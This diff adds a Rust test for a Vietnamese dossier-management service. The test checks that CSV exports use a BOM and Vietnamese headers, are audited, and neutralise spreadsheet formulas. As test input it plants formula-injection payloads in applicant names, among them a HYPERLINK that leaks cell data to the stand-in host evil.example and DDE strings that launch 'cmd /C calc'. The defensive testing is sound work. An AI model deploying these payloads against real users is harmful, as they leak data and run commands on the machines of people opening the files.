@@ -359,7 +359,106 @@ async fn work_lists_page_filter_and_export() {
     );
     let text = csv.body.as_str().unwrap();
     assert_eq!(text.lines().count(), 6, "{text}");
-    assert!(text.starts_with("code,procedure,status"));
+    assert!(
+        text.starts_with("\u{feff}Mã hồ sơ,Mã thủ tục,Thủ tục,Trạng thái"),
+        "{text}"
+    );
+}
+
+/// Export rows of the audit log.
+async fn exports(app: &TestApp) -> Vec<String> {
+    app.state
+        .store
+        .audit_page(0, 10_000)
+        .await
+        .unwrap()
+        .into_iter()
+        .filter(|e| e.columns.action == "export")
+        .map(|e| e.columns.purpose.unwrap_or_default())
+        .collect()
+}
+
+/// Both CSV exports are one writer (F11, F12, issue 14): BOM, Vietnamese
+/// headers and statuses, Vietnam time, formula cells defused, each audited.
+#[tokio::test]
+async fn both_csv_exports_are_vietnamese_safe_and_audited() {
+    let app = TestApp::new().await;
+    let p = place(&app).await;
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+    ];
+    for (i, name) in names.iter().enumerate() {
+        let mut body = online_filing(&p.center);
+        body["applicant"]["name"] = json!(name);
+        let (a, _) = call(
+            &app,
+            "POST",
+            "/api/v1/dossiers",
+            &[key(&format!("csv-{i}"))],
+            Some(body),
+        )
+        .await;
+        assert_eq!(a.status, StatusCode::CREATED, "{}", a.body);
+    }
+    let before = exports(&app).await.len();
+    for uri in ["/api/v1/dossiers?format=csv", "/can-bo/ho-so.csv?tab=unit"] {
+        let (csv, headers) = call(&app, "GET", uri, &[officer(&p.center)], None).await;
+        assert_eq!(csv.status, StatusCode::OK, "{uri}: {}", csv.body);
+        assert!(
+            headers["content-type"]
+                .to_str()
+                .unwrap()
+                .starts_with("text/csv")
+        );
+        let text = csv.body.as_str().unwrap();
+        assert!(text.starts_with('\u{feff}'), "{uri}: no BOM");
+        let header = text.lines().next().unwrap();
+        for column in ["Mã hồ sơ", "Thủ tục", "Trạng thái", "Ngày hẹn trả"] {
+            assert!(header.contains(column), "{uri}: {header}");
+        }
+        assert_eq!(text.lines().count(), 1 + names.len(), "{uri}: {text}");
+        for line in text.lines().skip(1) {
+            assert!(
+                line.contains("Mới đăng ký"),
+                "{uri}: status in words: {line}"
+            );
+            // Every applicant cell starts with the defusing quote.
+            let cells: Vec<&str> = line.split(',').collect();
+            assert!(
+                cells.iter().any(|c| c.starts_with("'=")
+                    || c.starts_with("'+")
+                    || c.starts_with("'@")
+                    || c.starts_with("'-")
+                    || c.starts_with("\"'=")),
+                "{uri}: {line}"
+            );
+            assert!(
+                !cells
+                    .iter()
+                    .any(|c| c.starts_with('=') || c.starts_with('+') || c.starts_with('@')),
+                "{uri}: a live formula in {line}"
+            );
+        }
+    }
+    let after = exports(&app).await;
+    assert_eq!(
+        after.len(),
+        before + 2,
+        "one export row per download: {after:?}"
+    );
+    assert!(
+        after
+            .iter()
+            .any(|p| p.contains("(api)") && p.contains("4 dòng"))
+    );
+    assert!(
+        after
+            .iter()
+            .any(|p| p.contains("(can-bo)") && p.contains("4 dòng"))
+    );
 }
 
 #[tokio::test]
